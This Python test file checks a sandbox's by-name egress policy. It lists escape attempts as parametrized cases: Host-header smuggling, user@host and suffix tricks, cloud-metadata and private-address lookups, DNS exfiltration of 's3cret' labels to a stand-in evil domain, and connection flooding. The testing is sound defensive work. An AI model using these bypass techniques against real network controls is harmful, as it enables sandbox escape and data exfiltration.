"""A sandbox that may reach some hosts by name reaches those, and whatever it claims, nobody else.

Each attempt first works from a sandbox without a policy: what refuses it afterwards is the policy.
"""

import asyncio
import os
import signal
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from local.sandboxes.engine import NetworkPolicy
from local.sandboxes.namespaces.cgroups import find_cgroup
from local.sandboxes.namespaces.engine import NamespaceEngine
from local.sandboxes.namespaces.settings import Names
from tests.attack.world import PRIVATE
from tests.e2e.egress.conftest import (
    ALL,
    DNS,
    EVIL,
    GOOD,
    GOOD_SUB,
    HOST,
    OTHER_DNS,
    Agent,
    Internet,
    an_agent,
)
from tests.sandbox_engine import INSTANCE, eventually, run, run_python

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
    pytest.mark.asyncio(loop_scope="package"),
]
BY_NAME = NetworkPolicy(
    allow_out=("good.example.com", "*.example.net", "inside.example.com", "metadata.example.com",
               "host.example.com", "silent.example.com"),
    deny_out=ALL,
)  # fmt: skip
TXT, AAAA = 16, 28
GOOD_HEAD = "HTTP/1.1\r\nHost: good.example.com\r\n"


@pytest_asyncio.fixture(scope="package", loop_scope="package")
async def free(engine: NamespaceEngine) -> AsyncIterator[Agent]:
    """The control: an agent whose sandbox has no policy."""
    async with an_agent(engine) as agent:
        yield agent


@pytest_asyncio.fixture(scope="package", loop_scope="package")
async def held(engine: NamespaceEngine) -> AsyncIterator[Agent]:
    """An agent that may reach some hosts by name."""
    async with an_agent(engine, BY_NAME) as agent:
        yield agent


async def test_an_allowed_host_is_found_and_answers(held: Agent) -> None:
    found, plain, secure = await held.tries(
        ("look_up", "good.example.com"), ("http", GOOD, "good.example.com"), ("tls", GOOD, "good.example.com")
    )
    assert found == [GOOD]
    assert plain == secure == f"I am {GOOD}"


async def test_a_wildcard_allows_what_is_below_it_and_not_itself(held: Agent) -> None:
    found, secure, apex = await held.tries(
        ("look_up", "api.deep.example.net"),
        ("tls", GOOD_SUB, "api.deep.example.net"),
        ("tls", GOOD_SUB, "example.net"),
    )
    assert (found, secure) == ([GOOD_SUB], f"I am {GOOD_SUB}")
    assert "refused" in apex


ESCAPES: dict[str, tuple[Any, ...]] = {
    "another host by HTTP": ("http", EVIL, "evil.example.org"),
    "another host by TLS": ("tls", EVIL, "evil.example.org"),
    "another host by its address": ("http", EVIL, EVIL),
    "TLS without a name": ("tls", EVIL, None),
    "another port of an allowed host": ("http", GOOD, "good.example.com", 8080),
    "TLS on another port": ("raw", EVIL, 8080, f"GET / {GOOD_HEAD}\r\n"),
    "a whole URL": ("raw", EVIL, 80, f"GET http://evil.example.org/ {GOOD_HEAD}\r\n"),
    "two hosts": ("raw", EVIL, 80, f"GET / {GOOD_HEAD}Host: evil.example.org\r\n\r\n"),
    "no host": ("raw", EVIL, 80, "GET / HTTP/1.0\r\n\r\n"),
    "a host with a user": ("http", EVIL, "good.example.com@evil.example.org"),
    "a host with a suffix": ("http", EVIL, "good.example.com.evil.example.org"),
    "a host with a prefix": ("http", EVIL, "evilgood.example.com"),
}  # fmt: skip


@pytest.mark.parametrize("way", ESCAPES)
async def test_no_other_host_is_reached(free: Agent, held: Agent, way: str) -> None:
    (control,), (attempt,) = await free.tries(ESCAPES[way]), await held.tries(ESCAPES[way])
    assert control.startswith("I am ")
    assert not attempt.startswith("I am ")


@pytest.mark.parametrize("kind", ["http", "tls"])
async def test_a_lie_about_the_host_leads_to_that_host(free: Agent, held: Agent, kind: str) -> None:
    lie = (kind, EVIL, "good.example.com")
    assert await free.tries(lie) == [f"I am {EVIL}"]
    assert await held.tries(lie) == [f"I am {GOOD}"]


@pytest.mark.parametrize(
    ("name", "address"),
    [
        ("inside.example.com", PRIVATE[0]),
        ("metadata.example.com", "169.254.169.254"),
        ("host.example.com", HOST),
    ],
)
async def test_an_allowed_name_opens_no_private_address_and_not_the_host(
    held: Agent, name: str, address: str
) -> None:
    async with await asyncio.start_server(lambda _, writer: writer.close(), HOST, 80):
        found, *tried = await held.tries(
            ("look_up", name), ("http", address, name), ("http", GOOD, name), ("tls", GOOD, name)
        )
    assert all("I am" not in each for each in tried), tried
    assert address == HOST or "refused" in found


async def test_a_host_that_does_not_answer_is_told_apart(held: Agent) -> None:
    (answer,) = await held.tries(("http", GOOD, "silent.example.com"))
    assert "'silent.example.com' does not answer" in answer


async def test_a_refusal_says_why(held: Agent) -> None:
    plain, secure = await held.tries(("http", EVIL, "evil.example.org"), ("tls", EVIL, "evil.example.org"))
    assert plain == "castari: this sandbox may not reach 'evil.example.org': its network allows other names"
    assert "ACCESS_DENIED" in secure


async def test_what_was_refused_by_name_is_told_once(engine: NamespaceEngine) -> None:
    told: list[tuple[str, int]] = []
    async with an_agent(engine, BY_NAME) as agent:
        agent.sandbox.on_refused(lambda host, port: told.append((host, port)))
        evil = ("tls", EVIL, "evil.example.org")
        await agent.tries(evil, evil, ("http", EVIL, EVIL), ("raw", EVIL, 80, "GET / HTTP/1.0\r\n\r\n"))
        await agent.tries(("look_up", "evil.example.org"), ("http", GOOD, "good.example.com"))
        assert await eventually(lambda: len(told) == 4)
    assert sorted(told) == [("", 80), (EVIL, 80), ("evil.example.org", 53), ("evil.example.org", 443)]


async def test_quic_does_not_pass(free: Agent, held: Agent) -> None:
    assert await free.tries(("datagram", GOOD, 443)) == ["x"]
    (refused,) = await held.tries(("datagram", GOOD, 443))
    assert "refused" in refused


async def test_names_that_are_not_allowed_never_leave_the_host(
    free: Agent, held: Agent, internet: Internet
) -> None:
    def secrets() -> list[tuple[Any, ...]]:
        return [
            ("look_up", "s3cret.evil.example.org"),
            ("ask", DNS, "s3cret-direct.evil.example.org"),
            ("ask", OTHER_DNS, "s3cret-other.evil.example.org"),
            ("ask", OTHER_DNS, "s3cret-text.evil.example.org", TXT),
        ]

    await held.tries(*secrets(), ("ask", OTHER_DNS, "s3cret-tcp.evil.example.org", 1, True))
    assert not [name for name in internet.asked() if "s3cret" in name]
    await free.tries(*secrets())
    assert len({name for name in internet.asked() if "s3cret" in name}) == 4


async def test_whatever_server_is_asked_only_addresses_come_back(held: Agent) -> None:
    known, unknown, text, six, over_tcp = await held.tries(
        ("ask", OTHER_DNS, "good.example.com"),
        ("ask", OTHER_DNS, "evil.example.org"),
        ("ask", OTHER_DNS, "good.example.com", TXT),
        ("ask", OTHER_DNS, "good.example.com", AAAA),
        ("ask", OTHER_DNS, "good.example.com", 1, True),
    )
    assert known == over_tcp == {"code": 0, "answers": 1}
    assert unknown == {"code": 3, "answers": 0}
    assert text == six == {"code": 0, "answers": 0}


async def test_without_internet_no_name_leaves_the_host(
    engine: NamespaceEngine, free: Agent, internet: Internet
) -> None:
    calls = (("look_up", "h1dden.evil.example.org"), ("ask", OTHER_DNS, "h1dden.evil.example.org", 1, True))
    async with an_agent(engine, NetworkPolicy(allow_internet=False)) as agent:
        tried = await agent.tries(*calls, ("http", GOOD, "good.example.com"))
    assert all("refused" in each for each in tried)
    assert not [name for name in internet.asked() if "h1dden" in name]
    await free.tries(*calls)
    assert [name for name in internet.asked() if "h1dden" in name]


async def test_networks_and_names_go_together(engine: NamespaceEngine) -> None:
    policy = NetworkPolicy(allow_out=("good.example.com", f"{EVIL}/32"), deny_out=ALL)
    async with an_agent(engine, policy) as agent:
        by_name, by_address, other_port, other = await agent.tries(
            ("http", GOOD, "good.example.com"),
            ("http", EVIL, "whatever.example.org"),
            ("http", EVIL, "whatever.example.org", 8080),
            ("http", GOOD_SUB, "api.deep.example.net"),
        )
    assert (by_name, by_address, other_port) == (f"I am {GOOD}", f"I am {EVIL}", f"I am {EVIL}")
    assert "I am" not in other


HOLD = """
import socket, sys, time
each = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
said = 0
while True:
    try:
        each.sendall(b"GET / HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n")
        if not each.recv(4096):
            break
    except OSError:
        break
    said += 1
    open("held", "w").write(str(said))
    time.sleep(0.02)
open("cut", "w").write("cut")
"""


@pytest.mark.parametrize("port", [80, 8080])
async def test_a_policy_can_be_tightened_and_loosened_and_cuts_what_it_no_longer_allows(
    engine: NamespaceEngine, port: int
) -> None:
    calls = (("http", GOOD, "good.example.com"), ("http", EVIL, "evil.example.org"))
    first = NetworkPolicy() if port == 8080 else NetworkPolicy(allow_out=("good.example.com",), deny_out=ALL)
    async with an_agent(engine, first) as agent:
        await run(agent.sandbox, f"rm -f held cut; cat > hold.py <<'X'\n{HOLD}\nX")
        await run(agent.sandbox, f"python3 hold.py {GOOD} {port} > /dev/null 2>&1 &")
        await run(agent.sandbox, "until test -s held; do sleep 0.05; done")
        await agent.sandbox.set_network(NetworkPolicy(allow_out=("evil.example.org",), deny_out=ALL))
        assert (
            await run(agent.sandbox, "until test -e cut; do sleep 0.05; done; echo cut")
        ).output == "cut\n"
        good, evil = await agent.tries(*calls)
        assert "I am" not in good
        assert evil == f"I am {EVIL}"
        await agent.sandbox.set_network(NetworkPolicy(allow_internet=False))
        assert all("refused" in each for each in await agent.tries(*calls))
        await agent.sandbox.set_network(
            NetworkPolicy(allow_out=(f"{GOOD}/32",), deny_out=("203.0.113.0/24",))
        )
        good, evil = await agent.tries(*calls)
        assert good == f"I am {GOOD}"
        assert "refused" in evil
        await agent.sandbox.set_network(NetworkPolicy())
        assert await agent.tries(*calls) == [f"I am {GOOD}", f"I am {EVIL}"]


async def test_one_sandbox_can_not_use_up_the_way_of_another(engine: NamespaceEngine, held: Agent) -> None:
    code = (
        "import socket, time\nkept = []\nfor _ in range(400):\n"
        f"    kept.append(socket.create_connection(('{GOOD}', 443), timeout=5))\n"
        "open('ready', 'w').write('')\ntime.sleep(60)"
    )
    async with an_agent(engine, BY_NAME) as greedy:
        flood = asyncio.create_task(run_python(greedy.sandbox, code))
        for _ in range(3):
            assert await held.tries(("tls", GOOD, "good.example.com")) == [f"I am {GOOD}"]
        flood.cancel()


async def test_a_process_that_dies_comes_back_and_lets_nobody_else_out_meanwhile(
    engine: NamespaceEngine, held: Agent
) -> None:
    assert engine
    (pid,) = find_cgroup(f"{Names(INSTANCE).cgroup}/egress").members()
    os.kill(pid, signal.SIGKILL)
    escape, good = await held.tries(("http", EVIL, "evil.example.org"), ("http", GOOD, "good.example.com"))
    assert "I am" not in escape
    assert good == f"I am {GOOD}"
    assert await eventually(lambda: pid not in find_cgroup(f"{Names(INSTANCE).cgroup}/egress").members())


async def test_the_process_that_reads_what_agents_send_has_no_rights(
    engine: NamespaceEngine, held: Agent
) -> None:
    assert engine
    assert held
    (pid,) = find_cgroup(f"{Names(INSTANCE).cgroup}/egress").members()
    with open(f"/proc/{pid}/status") as file:  # noqa: ASYNC230, PTH123
        status = dict(line.split(":", 1) for line in file.read().splitlines())
    assert {int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {0}
    assert (status["NoNewPrivs"].strip(), status["Seccomp"].strip()) == ("1", "2")
    assert all(int(each) > 2_000_000_000 for each in status["Uid"].split() + status["Gid"].split())
